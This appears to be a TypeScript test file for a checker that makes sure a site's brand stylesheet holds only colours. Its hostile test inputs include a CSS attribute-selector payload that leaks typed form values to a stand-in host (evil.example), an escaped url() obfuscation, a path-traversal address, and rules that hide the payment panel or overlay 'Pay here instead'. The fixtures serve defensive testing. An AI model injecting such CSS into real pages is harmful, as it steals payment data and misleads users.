import assert from "node:assert/strict";
import { test } from "node:test";
import { isBrandSheet, judgeBrandSheet } from "./judge-brand-sheet.ts";

const colours =
  ":root{--color-page:#fff;color-scheme:light;}.panel{color:var(--color-text);border:1px solid transparent;}" +
  "@media (prefers-color-scheme:dark){:root{--color-page:#000000;}.summary{border-radius:var(--radius-panel);padding:var(--space-5);}}";

test("a stylesheet of colours is known by its address, and nothing is found in it", () => {
  assert.equal(isBrandSheet("/assets/brand/A0b5a75.1a2b3c4d.css"), true);
  assert.equal(isBrandSheet("/assets/brand/../pay.1a2b3c4d.css"), false);
  assert.equal(isBrandSheet("https://evil.example/assets/brand/A0b5a75.1a2b3c4d.css"), false);
  assert.deepEqual(judgeBrandSheet(colours), []);
});

for (const added of [
  "@import '/other.css';",
  "input[value^='4']{background:url(https://evil.example/4)}",
  ".panel{display:none}",
  ".panel::after{content:'Pay here instead'}",
  ".panel{background:u\\72l(x)}",
  ".panel{position:fixed}",
]) {
  test(`more than colours is found: ${added}`, () => {
    assert.notDeepEqual(judgeBrandSheet(colours + added), []);
  });
}
